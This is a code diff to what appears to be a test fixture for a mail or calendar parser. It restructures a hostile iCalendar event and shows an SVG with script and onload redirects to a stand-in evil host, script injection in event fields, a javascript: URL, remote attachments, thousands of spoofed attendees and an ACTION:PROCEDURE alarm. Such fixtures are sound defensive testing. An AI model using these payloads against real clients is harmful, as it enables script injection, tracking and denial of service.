@@ -13,30 +13,30 @@ function multipart(type: string, ...parts: readonly string[]): string {
 const TEXT = 'Content-Type: text/plain\r\n\r\nReadable';
 const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="location='${EVIL}/svg'"><script>location='${EVIL}/x'</script><image href="${EVIL}/y"/></svg>`;
 const EVENT = [
-  ...['BEGIN:VCALENDAR', 'METHOD:REQUEST', 'VERSION:2.0', 'BEGIN:VEVENT', 'UID:</script>'],
-  ...[
-    `SUMMARY:Readable ${SCRIPT}`,
-    `LOCATION:${SCRIPT}`,
-    'URL:javascript:location=1',
-    `DESCRIPTION:${SCRIPT}`,
-  ],
-  ...[
-    'DTSTART:99991231T235959Z',
-    'DTEND:00010101T000000Z',
-    'RRULE:FREQ=SECONDLY;INTERVAL=1',
-    'SEQUENCE:99999999999',
-  ],
-  ...['ORGANIZER;CN="<b>":mailto:eve@evil.test', `ATTACH:${EVIL}/a`, `IMAGE;VALUE=URI:${EVIL}/b`],
+  'BEGIN:VCALENDAR',
+  'METHOD:REQUEST',
+  'VERSION:2.0',
+  'BEGIN:VEVENT',
+  'UID:</script>',
+  `SUMMARY:Readable ${SCRIPT}`,
+  `LOCATION:${SCRIPT}`,
+  'URL:javascript:location=1',
+  `DESCRIPTION:${SCRIPT}`,
+  'DTSTART:99991231T235959Z',
+  'DTEND:00010101T000000Z',
+  'RRULE:FREQ=SECONDLY;INTERVAL=1',
+  'SEQUENCE:99999999999',
+  'ORGANIZER;CN="<b>":mailto:eve@evil.test',
+  `ATTACH:${EVIL}/a`,
+  `IMAGE;VALUE=URI:${EVIL}/b`,
   ...Array.from({ length: 3_000 }, (_, n) => `ATTENDEE;CN=\u202e${n}:mailto:${n}@evil.test`),
-  ...[
-    'BEGIN:VALARM',
-    'ACTION:PROCEDURE',
-    `ATTACH:${EVIL}/c`,
-    'TRIGGER:PT0S',
-    'END:VALARM',
-    'END:VEVENT',
-    'END:VCALENDAR',
-  ],
+  'BEGIN:VALARM',
+  'ACTION:PROCEDURE',
+  `ATTACH:${EVIL}/c`,
+  'TRIGGER:PT0S',
+  'END:VALARM',
+  'END:VEVENT',
+  'END:VCALENDAR',
 ].join('\r\n');
 
 /** What stands before the empty line, but for From, Subject and what makes a conversation of them; then the rest. */
